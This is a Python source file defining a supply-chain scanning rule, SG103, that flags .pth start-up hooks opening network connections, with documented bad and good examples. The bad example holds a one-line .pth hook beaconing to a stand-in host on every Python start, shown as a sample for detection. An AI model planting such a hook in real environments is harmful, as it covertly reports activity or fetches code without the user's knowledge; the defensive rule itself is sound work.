"""A start-up hook opens a network connection.

## Why it matters
It tells somebody about every start of Python on this machine, or fetches what runs next, so that the installed files say
nothing about it. No distribution needs the network before the program starts.

## Bad
~~~text path=venv/pyvenv.cfg
home = /usr/bin
include-system-site-packages = false
version = 3.12.3
~~~

~~~text path=venv/lib/python3.12/site-packages/boot.pth
import urllib.request as u; u.urlopen("https://example.invalid/beacon")
~~~

## Good
~~~text path=venv/pyvenv.cfg
home = /usr/bin
include-system-site-packages = false
version = 3.12.3
~~~

~~~text path=venv/lib/python3.12/site-packages/project.pth
/home/ada/src/project
~~~

## How to fix
Uninstall the distribution that owns the file. If you know the hook, accept it by its digest with a reason.

## References
- MITRE ATT&CK T1546.018, "Python Startup Hooks"
"""

from __future__ import annotations

from collections.abc import Iterator

from sbomgate.model import Finding, Severity
from sbomgate.policy import Context, Rule
from sbomgate.rules._hooks import hook_findings


def check(context: Context) -> Iterator[Finding]:
    return hook_findings(RULE, context.inventory.hooks)


RULE = Rule(id="SG103", name="hook-opens-network", severity=Severity.CRITICAL, check=check, doc=__doc__)
